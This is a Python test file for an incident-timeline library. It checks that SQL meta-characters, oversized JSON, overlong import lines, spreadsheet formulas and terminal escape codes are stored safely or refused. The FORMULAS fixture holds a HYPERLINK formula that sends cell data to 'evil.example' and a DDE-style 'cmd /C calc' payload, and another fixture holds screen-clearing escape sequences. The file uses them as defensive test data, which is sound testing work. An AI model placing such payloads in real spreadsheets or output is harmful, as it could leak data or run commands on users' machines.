    source=st.fixed_dictionaries(
        {}, optional={name: sql_text for name in ("title", "url", "publisher", "quote")}
    ),
    path=st.lists(st.sampled_from(_PATH_FRAGMENTS), min_size=1, max_size=3).map("".join),
    value=sql_text,
)
def test_generated_sql_text_is_stored_verbatim(
    hostile: Hostile,
    incident: str,
    actor: str,
    targets: list[str],
    data: dict[str, object],
    source: dict[str, str],
    path: str,
    value: str,
) -> None:
    """Generated text of SQL meta-characters and control characters is stored as given in
    every text field, read back equal, and found by exact-match filters."""
    assume(actor not in targets)
    tl = hostile.tl
    before = hostile.count()
    effects = {actor: {path: value}}
    recorded = tl.record(
        "report",
        actor,
        "2017-06-18T12:00Z",
        incident=incident,
        targets=targets,
        data=data,
        effects=effects,
        source=source,
    )
    got = tl.get(recorded.id)
    assert (incident, actor, tuple(targets), data, effects, source) == (
        got.incident,
        got.actor,
        got.targets,
        got.data,
        got.effects,
        got.source,
    )
    by_incident = list(tl.events(incident=incident))
    by_actor = list(tl.events(actor=actor))
    assert ({incident}, True) == (
        {e.incident for e in by_incident},
        recorded.id in {e.id for e in by_incident},
    )
    assert (True, True) == (
        all(actor == e.actor or actor in e.targets or actor in e.effects for e in by_actor),
        recorded.id in {e.id for e in by_actor},
    )
    assert value == tl.state(actor)[path]
    assert before + 1 == hostile.count()
    hostile.stored_verbatim(1)


# -- library bugs these tests found, fixed; kept as regression tests ---------------------------


def refused_field(attempt: Callable[[], object]) -> str:
    """The field named by the TimelineError that ``attempt`` raises."""
    with pytest.raises(timeline.TimelineError) as caught:
        attempt()
    return re.sub(r"^events\[\d+\]\.", "", getattr(caught.value, "field", str(caught.value)))


def test_a_type_name_with_a_trailing_newline_is_refused(sqlite_url: str) -> None:
    """A type name with a trailing newline is refused naming `type`, and stores nothing."""
    with timeline.open(sqlite_url) as tl:
        field = refused_field(lambda: tl.record(**{**GOOD, "type": "shootdown\n"}))
        assert ("type", 0) == (field, stored_count(sqlite_url))


@pytest.mark.parametrize(
    "moment",
    [
        dt.datetime(1, 1, 1, tzinfo=dt.timezone(dt.timedelta(hours=3))),
        dt.datetime.max.replace(tzinfo=dt.timezone(dt.timedelta(hours=-5))),
        "0001-01-01 00:00 +03:00",
        "9999-12-31 23:00 -05:00",
    ],
    ids=["datetime-year-1+03", "datetime-max-05", "text-year-1+03", "text-9999-05"],
)
def test_a_moment_whose_utc_instant_leaves_the_calendar_is_refused(moment: object) -> None:
    """A moment that cannot be expressed in UTC is refused naming `occurred_at`."""
    field = refused_field(lambda: timeline.Event(**{**GOOD_EVENT, "occurred_at": moment}))
    assert "occurred_at" == field


@pytest.mark.parametrize("text", ["2017-06-18 12:00 +24:00", "2017-06-18 12:00 -99:00"])
def test_an_offset_of_24_hours_or_more_is_refused(text: str) -> None:
    """Text with an offset of a day or more is refused naming `occurred_at`."""
    field = refused_field(lambda: timeline.Event(**{**GOOD_EVENT, "occurred_at": text}))
    assert "occurred_at" == field


@pytest.mark.parametrize("zone", ["UTC+3", "GMT+3"])
def test_utc_plus_offset_is_read_as_written_or_refused(zone: str) -> None:
    """'12:00 UTC+3' means 09:00 UTC; if the library cannot be sure, it must refuse it."""
    try:
        event = timeline.Event(**{**GOOD_EVENT, "occurred_at": f"2017-06-18 12:00 {zone}"})
    except timeline.InvalidEventError as e:
        assert "occurred_at" == e.field
        return
    assert dt.datetime(2017, 6, 18, 9, 0, tzinfo=dt.UTC) == event.occurred_at


def test_a_year_before_1000_round_trips(db_url: str) -> None:
    """An event of a year before 1000 is read back equal and the store still verifies."""
    moment = dt.datetime(999, 5, 1, tzinfo=dt.UTC)
    with timeline.open(db_url) as tl:
        recorded = tl.record("report", "US", moment, incident=INCIDENT)
        assert [(recorded.id, moment)] == [(e.id, e.occurred_at) for e in tl.events()]
        assert tl.verify().ok


def test_canonical_time_text_has_a_four_digit_year() -> None:
    """The canonical text of a moment before year 1000 has a four-digit year and reads back."""
    text = isoformat(dt.datetime(999, 5, 1, tzinfo=dt.UTC))
    assert "0999-05-01T00:00:00.000000Z" == text
    assert (
        dt.datetime(999, 5, 1, tzinfo=dt.UTC)
        == timeline.Event(**{**GOOD_EVENT, "occurred_at": text}).occurred_at
    )


@pytest.mark.parametrize(
    "call",
    [
        lambda tl: tl.append(None),
        lambda tl: tl.append(42),
        lambda tl: tl.load(None),
        lambda tl: tl.load(42),
        lambda tl: list(tl.events(type=5)),
        lambda tl: timeline.open(42),
    ],
    ids=["append(None)", "append(42)", "load(None)", "load(42)", "events(type=5)", "open(42)"],
)
def test_a_non_iterable_where_events_or_types_go_is_refused(
    sqlite_url: str, call: Callable[[timeline.Timeline], object]
) -> None:
    """A value that is not a collection where one is wanted raises a TimelineError."""
    with timeline.open(sqlite_url) as tl:
        refused_field(lambda: call(tl))


# -- refusals that escaped as Python errors -------------------------------------------------


def cli(*args: str) -> tuple[int, list[str]]:
    """Run ``timeline ARGS``; return the exit code and the lines printed (stdout and stderr)."""
    result = CliRunner().invoke(main, list(args))
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(
        result.exception
    )
    return result.exit_code, result.output.splitlines()


def test_a_within_reaching_back_past_year_1_finds_the_matches(tl: timeline.Timeline) -> None:
    """A ``within`` that fits a duration but reaches back past year 1 bounds nothing (it
    raised OverflowError while matching)."""
    tl.record("shootdown", "US", "2017-06-18", incident=INCIDENT)
    tl.record("cooperation_suspended", "Russia", "2017-06-19", incident=INCIDENT)
    steps = [timeline.Step("shootdown"), timeline.Step("cooperation_suspended")]
    assert 1 == len(tl.sequence(steps, within="3000000d").matches)
    assert 1 == len(tl.sequence(steps, within=dt.timedelta.max).matches)


def test_the_largest_whole_number_is_taken(tl: timeline.Timeline) -> None:
    """2**63 - 1 is a position and a limit the databases take: nothing after it."""
    tl.record(**GOOD)
    assert [] == list(tl.events(after_position=2**63 - 1, limit=2**63 - 1))
    assert 1 == len(list(tl.events(limit=2**63 - 1)))


NINES = "9" * 5000


@pytest.mark.parametrize(
    ("args", "field"),
    [
        (("events", "--after-position", str(2**63)), "after_position"),
        (("events", "--limit", str(2**63)), "limit"),
        (("record", *RECORD_ARGS, "--expected-version", str(2**63)), "expected_version"),
        (("record", *RECORD_ARGS, "--data", "[" * 100_000 + "]" * 100_000), "data"),
        (("record", *RECORD_ARGS, "--effects", '{"US": {"n": ' + NINES + "}}"), "effects"),
        (
            ("correct", "01900000-0000-7000-8000-000000000001", "--data", '{"n": -' + NINES + "}"),
            "data",
        ),
        (("report", "sequence", "shootdown", "truce", "--within", "99999999999999999d"), "within"),
        (("report", "sequence", "shootdown", "truce/99999999999999999d"), "max_gap"),
        (("report", "sequence", "shootdown", "--where", "1:data.n=" + NINES), "--where"),
        (("chart", "-o", "x.svg", "--step", "shootdown", "--within", "9" * 400 + "d"), "within"),
    ],
    ids=lambda v: v if isinstance(v, str) else v[0] if v[0] != "report" else v[-1][:12],
)
def test_the_command_line_refuses_numbers_and_json_past_their_limits(
    db_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, args: tuple[str, ...], field: str
) -> None:
    """A number or JSON text past what Python or the database takes is one error line
    naming the option's field, exit 1, nothing stored (it was a traceback)."""
    monkeypatch.chdir(tmp_path)
    timeline.upgrade(db_url)
    code, lines = cli("--db", db_url, *args)
    assert (1, 1) == (code, len(lines)), lines
    assert lines[0].startswith(f"error: {field}: "), lines
    assert 0 == stored_count(db_url)


# -- import files: lines too long to read, events too large to store ---------------------

MIB = 1 << 20
LINE_LIMIT = 2 * MIB + 4096  # max_line_bytes of the default max_event_bytes


def jsonl_line(**changes: Any) -> str:
    """A line of an import file: the good event with ``changes``."""
    return json.dumps({**GOOD_DICT, **changes})


def test_import_names_the_line_of_each_hostile_jsonl_line(db_url: str, tmp_path: Path) -> None:
    """An import lists, by line, JSON nested too deep, an integer too long, an event over
    max_event_bytes and a line too long to read, and stores nothing (they were a
    RecursionError, a ValueError, ``events[1].data`` and a 2.9 GB read)."""
    path = tmp_path / "hostile.jsonl"
    lines = [
        jsonl_line(),
        "[" * 100_000 + "]" * 100_000,
        '{"type": "truce", "data": {"n": ' + "9" * 5000 + "}}",
        jsonl_line(data={"note": "x" * (MIB + 10)}),
        jsonl_line(data={"note": "y" * LINE_LIMIT}),
        jsonl_line(type="truce"),
    ]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    code, output = cli("--db", db_url, "import", str(path))
    assert 1 == code
    assert [
        "line 2: event: nests deeper than 64 levels",
        "line 3: event: holds an integer of more than 4,300 digits",
        "line 4: data: makes the event 1,048,851 bytes of JSON; the limit is 1,048,576 "
        "(max_event_bytes)",
        "line 5: event: is over max_event_bytes (the line is longer than 2,101,248 bytes, "
        "twice the limit of 1,048,576 and 4,096 more; skipped, not parsed)",
        f"error: {path}: 4 problems; nothing was stored",
    ] == output
    assert 0 == stored_count(db_url)


def test_import_names_the_line_of_each_hostile_csv_row(db_url: str, tmp_path: Path) -> None:
    """A CSV row too long to read is skipped to its end, quoted line breaks included, and
    the rows after it keep their line numbers; nothing is stored."""
    path = tmp_path / "hostile.csv"
    huge = "z" * LINE_LIMIT
    path.write_text(
        "type,actor,occurred_at,incident,data\n"
        "truce,Syria,2017-06-17,s,\n"
        f'truce,Syria,2017-06-17,s,"{{""note"": ""{huge}\n'
        f'{huge}""}}"\n'
        "truce,Syria,2017-13-45,s,\n"
        'truce,Syria,2017-06-17,s,"{""n"": ' + "9" * 5000 + '}"\n'
        'truce,Syria,2017-06-17,s,"' + "[" * 100_000 + '"\n'
        "truce,Syria,2017-06-17,s,\n",
        encoding="utf-8",
    )
    code, output = cli("--db", db_url, "import", str(path))
    assert 1 == code
    assert [
        "line 3: event: is over max_event_bytes (the line is longer than 2,101,248 bytes, "
        "twice the limit of 1,048,576 and 4,096 more; skipped, not parsed)",
        "line 5: occurred_at: cannot read '2017-13-45' as a date or time",
        "line 6: data: holds an integer of more than 4,300 digits",
        "line 7: data: nests deeper than 64 levels",
        f"error: {path}: 4 problems; nothing was stored",
    ] == output
    assert 0 == stored_count(db_url)


@pytest.mark.parametrize("fmt", ["jsonl", "csv"])
def test_a_line_too_long_is_refused_without_holding_it(tmp_path: Path, fmt: str) -> None:
    """Reading a file of one 40 MB line (with max_event_bytes 10,000) never holds more
    than a few of its limit: the line is refused, and the line after it read."""
    path = tmp_path / f"huge.{fmt}"
    with path.open("w", encoding="utf-8", newline="") as file:
        if fmt == "csv":
            file.write('type,actor,occurred_at,incident,data\ntruce,Syria,2017-06-17,s,"')
        for _ in range(40):
            file.write('{"a": "' + "x" * (MIB - 10) + '"}')
        file.write('"\n' if fmt == "csv" else "\n")
        file.write(
            "truce,Syria,2017-06-17,s,\n" if fmt == "csv" else jsonl_line(type="truce") + "\n"
        )
    first = 2 if fmt == "csv" else 1
    tracemalloc.start()
    try:
        found = list(read_events(path, max_event_bytes=10_000))
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert [(first, "event: is over max_event_bytes"), (first + 1, "truce")] == [
        (n, e.type if isinstance(e, timeline.Event) else str(e).split(" (")[0]) for n, e in found
    ]
    assert peak < 1 * MIB, f"peak {peak:,} bytes"


def test_an_export_of_large_events_imports_back(db_url: str, tmp_path: Path) -> None:
    """Events near max_event_bytes export to lines an import takes back, in JSON Lines and
    CSV (CSV cells over csv's own 128 KiB field limit were refused)."""
    with timeline.open(db_url, max_event_bytes=400_000) as tl:
        tl.record(**GOOD, data={"quotes": ['"'] * 60_000})
        tl.record(**GOOD, data={"note": "é" * 150_000})
        tl.record(**GOOD, data={"n": [0] * 190_000})
        expected = [e.content() for e in tl.events()]
        for fmt in ("jsonl", "csv"):
            with (tmp_path / f"export.{fmt}").open("w", encoding="utf-8", newline="") as file:
                (write_csv if fmt == "csv" else write_jsonl)(tl.events(), file)
            read = [e for _, e in read_events(tmp_path / f"export.{fmt}", max_event_bytes=400_000)]
            assert expected == [e.content() for e in read], fmt


# -- CSV that spreadsheets open ----------------------------------------------------------------


@HYPOTHESIS
@given(text=formula_text | json_text)
def test_a_spreadsheet_cell_never_starts_a_formula_and_reads_back(text: str) -> None:
    """Any text written as a spreadsheet cell starts with no formula character, and reads
    back as it was, a leading quote included."""
    cell = spreadsheet_cell(text)
    assert not cell.startswith(SPREADSHEET_STARTS)
    assert text == from_spreadsheet_cell(cell)


@HYPOTHESIS
@given(batch=st.lists(formula_events(), max_size=4))
def test_events_that_start_as_formulas_read_back_from_csv(batch: list[timeline.Event]) -> None:
    """Events whose actor, incident, targets or data start as a formula (or with a quote)
    are written as CSV cells a spreadsheet does not run, and read back as equal events."""
    out = io.StringIO(newline="")
    write_csv(batch, out)
    cells = [cell for row in csv.reader(io.StringIO(out.getvalue())) for cell in row]
    assert [] == [cell for cell in cells if cell.startswith(SPREADSHEET_STARTS)]
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "events.csv"
        path.write_text(out.getvalue(), encoding="utf-8", newline="")
        assert batch == [event for _, event in read_events(path)]


FORMULAS = {
    "actor": '=HYPERLINK("http://evil.example/?"&A1, "details")',
    "incident": "@SUM(1+1)*cmd|' /C calc'!A0",
    "targets": ["+1-555-0100", "-2+3", "'s-Hertogenbosch", "'=already quoted"],
    "data": {"note": "\t=1+1", "other": "\r=2"},
}


def formula_cells(text: str) -> list[str]:
    """The cells of CSV text that a spreadsheet would run as a formula."""
    return [
        c for row in csv.reader(io.StringIO(text)) for c in row if c.startswith(SPREADSHEET_STARTS)
    ]


def test_csv_outputs_neutralise_formulas_and_import_reads_them_back(
    db_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """export, events and report sequence write no cell a spreadsheet would run; an
    import of the export gives back the same events, the quotes of ``'s-Hertogenbosch``
    and ``'=already quoted`` included."""
    monkeypatch.chdir(tmp_path)
    with timeline.open(db_url) as tl:
        tl.record(
            "shootdown",
            FORMULAS["actor"],
            "2017-06-18",
            incident=FORMULAS["incident"],
            targets=FORMULAS["targets"][:2],
            data={"key": "=cmd"},
        )
        tl.record(
            "truce",
            FORMULAS["targets"][2],
            "2017-06-19",
            incident=FORMULAS["incident"],
            targets=FORMULAS["targets"][3:],
            data=FORMULAS["data"],
        )
        expected = [e.content() for e in tl.events()]
    code, _ = cli("--db", db_url, "export", "-o", "export.csv")
    exported = Path("export.csv").read_text(encoding="utf-8")
    code_events, listed = cli("--db", db_url, "events", "--format", "csv")
    code_report, reported = cli(
        "--db", db_url, "report", "sequence", "shootdown:data.key", "--format", "csv"
    )
    assert (0, 0, 0) == (code, code_events, code_report)
    assert ([], [], []) == (
        formula_cells(exported),
        formula_cells("\n".join(listed)),
        formula_cells("\n".join(reported)),
    )
    assert "'=HYPERLINK" in exported and "'=cmd" in "\n".join(reported)
    copy = f"sqlite:///{tmp_path / 'copy.db'}"
    assert 0 == cli("--db", copy, "import", "export.csv")[0]
    with timeline.open(copy) as tl:
        assert expected == [e.content() for e in tl.events()]


# -- text printed to a terminal ----------------------------------------------------------------

SCREEN_CONTROLS = re.compile(
    "[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\u2028\u2029]"
)
"""What a terminal obeys instead of showing: controls (but the line break), C1 (``\\x9b``
is CSI), bidirectional controls, Unicode line breaks."""


@HYPOTHESIS
@given(text=st.text())
def test_printable_text_holds_nothing_a_terminal_obeys(text: str) -> None:
    """printable() leaves no control or bidirectional character but line breaks, and
    none at all with lines=False; text without them is left as it is."""
    assert None is SCREEN_CONTROLS.search(printable(text))
    assert (None, None) == (
        SCREEN_CONTROLS.search(printable(text, lines=False)),
        re.search("\n", printable(text, lines=False)),
    )
    if SCREEN_CONTROLS.search(text) is None:
        assert text == printable(text)


CLEAR = "\x1b[2J\x1b[H"
HOSTILE_VALUES = {
    "status": f"suspended{CLEAR}",
    "flag": "US\u202eAIRAK",
    "csi": "\x9b2J",
    "note": "first line\nsecond line\r\tand a tab",
}


def test_terminal_output_escapes_control_characters(
    db_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """state, history, revisions, report sequence (text and Markdown) and error lines
    show control characters and bidirectional overrides as escapes (an effect value
    holding ESC[2J cleared the screen); --json and CSV keep them exactly."""
    monkeypatch.chdir(tmp_path)
    with timeline.open(db_url) as tl:
        first = tl.record(
            "shootdown", "US", "2017-06-18", incident=INCIDENT,
            effects={"US": HOSTILE_VALUES}, data={"key": CLEAR},
        )  # fmt: skip
        tl.retract(first.id, f"mistaken{CLEAR}")
        tl.record("shootdown", "US", "2017-06-19", incident=INCIDENT,
                  effects={"US": HOSTILE_VALUES}, data={"key": CLEAR})  # fmt: skip
    outputs = {
        "state": cli("--db", db_url, "state", "US"),
        "history": cli("--db", db_url, "history", "US"),
        "revisions": cli("--db", db_url, "revisions", str(first.id)),
        "report": cli("--db", db_url, "report", "sequence", "shootdown:data.key"),
        "markdown": cli(
            "--db", db_url, "report", "sequence", "shootdown:data.key", "--format", "markdown"
        ),
        "error": cli("--db", db_url, "export", "-o", f"no{CLEAR}folder/x.csv"),
    }
    shown = {name: "\n".join(lines) for name, (_, lines) in outputs.items()}
    assert {name: None for name in outputs} == {
        name: SCREEN_CONTROLS.search(text) for name, text in shown.items()
    }
    assert "suspended\\x1b[2J\\x1b[H" in shown["state"]
    assert "US\\u202eAIRAK" in shown["state"] and "\\x9b2J" in shown["history"]
    assert "first line\\nsecond line\\r\\tand a tab" in shown["state"]
    assert "(retracted: mistaken\\x1b[2J\\x1b[H)" in shown["revisions"]
    assert "\\x1b[2J\\x1b[H" in shown["report"] and "\\x1b[2J\\x1b[H" in shown["markdown"]
    assert 1 == len(outputs["error"][1]) and "no\\x1b[2J\\x1b[Hfolder" in shown["error"]
    code, lines = cli("--db", db_url, "state", "US", "--json")
    assert (0, HOSTILE_VALUES) == (code, json.loads(lines[0])["values"])
    code, lines = cli("--db", db_url, "events", "--format", "jsonl")
    assert (0, CLEAR) == (code, json.loads(lines[-1])["data"]["key"])


# -- names that look alike ---------------------------------------------------------------------

PERSIAN = "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645"  # "I want", with its ZWNJ
CONJUNCT = "\u0915\u094d\u200d\u0937"  # Devanagari k + virama + ZWJ + ss: a half form
EMOJI = "\U0001f469\u200d\U0001f4bb"  # woman technologist, a ZWJ sequence
COMPOSED, DECOMPOSED = "Cr\u00e9pieux", "Cre\u0301pieux"


def test_names_keep_what_scripts_need_and_are_one_name_however_accents_are_typed(
    tl: timeline.Timeline,
) -> None:
    """Joiners stay where Persian, Indic scripts and emoji need them; a name typed with a
    composed or a decomposed accent is stored composed (NFC) and found either way, by
    events, state, history, sequence steps and expected_version."""
    recorded = tl.record(
        "statement", DECOMPOSED, "2017-06-18", incident=f"lyon-{DECOMPOSED}",
        targets=[PERSIAN, CONJUNCT, EMOJI],
        effects={DECOMPOSED: {f"cafe\u0301.{PERSIAN}": "open"}},
    )  # fmt: skip
    assert (COMPOSED, f"lyon-{COMPOSED}", (PERSIAN, CONJUNCT, EMOJI)) == (
        recorded.actor,
        recorded.incident,
        recorded.targets,
    )
    assert {COMPOSED: {f"caf\u00e9.{PERSIAN}": "open"}} == recorded.effects
    for name in (COMPOSED, DECOMPOSED):
        assert [recorded.id] == [e.id for e in tl.events(actor=name)]
        assert [recorded.id] == [e.id for e in tl.events(incident=f"lyon-{name}")]
        assert "open" == tl.state(name)[f"caf\u00e9.{PERSIAN}"]
        assert 1 == len(tl.history(name, "cafe\u0301"))
        assert 1 == tl.incident_version(f"lyon-{name}")
        step = timeline.Step(
            "statement", where={"actor": name, "targets": [PERSIAN, CONJUNCT, EMOJI]}
        )
        assert 1 == len(tl.sequence([step]).matches)
    for name in (PERSIAN, CONJUNCT, EMOJI):
        assert [recorded.id] == [e.id for e in tl.events(actor=name)]
    tl.record("statement", COMPOSED, "2017-06-19", incident=f"lyon-{COMPOSED}",
              expected_version={f"lyon-{DECOMPOSED}": 1})  # fmt: skip
    assert [COMPOSED, COMPOSED] == [e.actor for e in tl.events(actor=DECOMPOSED)]


def test_the_command_line_finds_a_name_however_its_accents_are_typed(db_url: str) -> None:
    """timeline record and state take a name typed decomposed as the composed one."""
    cli("--db", db_url, "record", "statement", DECOMPOSED, "2017-06-18", "--incident", "x",
        "--effects", json.dumps({COMPOSED: {"status": "open"}}))  # fmt: skip
    code, lines = cli("--db", db_url, "state", DECOMPOSED)
    assert (0, f"{COMPOSED} after all its events, as known now: 1 event applied") == (
        code,
        lines[0],
    )
    assert ["status", "open"] == lines[2].split()
    code, lines = cli("--db", db_url, "record", "statement", "U\u200bS", "2017-06-18",
                      "--incident", "x")  # fmt: skip
    assert (1, ["error: actor: must not contain U+200B (ZERO WIDTH SPACE), which is invisible "
                "or reorders the text around it"]) == (code, lines)  # fmt: skip


@pytest.mark.parametrize("ending", ["\n", "\r\n"])
def test_a_line_of_exactly_the_limit_is_read_and_one_byte_more_is_not(
    tmp_path: Path, ending: str
) -> None:
    """The line limit counts a line without its line break: a line of exactly
    max_line_bytes is read (its \\r\\n too, not left over as a line of its own), one byte
    longer is refused, and the lines after both keep their numbers."""
    limit = max_line_bytes(1000)
    assert limit is not None
    line = jsonl_line(type="truce", data={"note": ""})
    exact = line.replace('"note": ""', '"note": "' + "x" * (limit - len(line)) + '"')
    longer = exact.replace('"note": "', '"note": "y')
    assert (limit, limit + 1) == (len(exact), len(longer))
    path = tmp_path / "edge.jsonl"
    path.write_bytes(ending.join([exact, longer, line, ""]).encode())
    found = [(n, str(e).split(" (")[0]) for n, e in read_jsonl(path, max_event_bytes=1000)]
    assert [1, 2, 3] == [n for n, _ in found]
    assert "event: is over max_event_bytes" == found[1][1]
    cell = "z" * (limit - len("truce,Syria,2017-06-17,s,"))
    rows = ["type,actor,occurred_at,incident,data", f"truce,Syria,2017-06-17,s,{cell}",
            f"truce,Syria,2017-06-17,s,{cell}z", "truce,Syria,2017-06-17,s,"]  # fmt: skip
    path = tmp_path / "edge.csv"
    path.write_bytes((ending.join(rows) + ending).encode())
    found = [(n, str(e).split(" (")[0]) for n, e in read_csv(path, max_event_bytes=1000)]
    assert [2, 3, 4] == [n for n, _ in found]
    assert "event: is over max_event_bytes" == found[1][1]
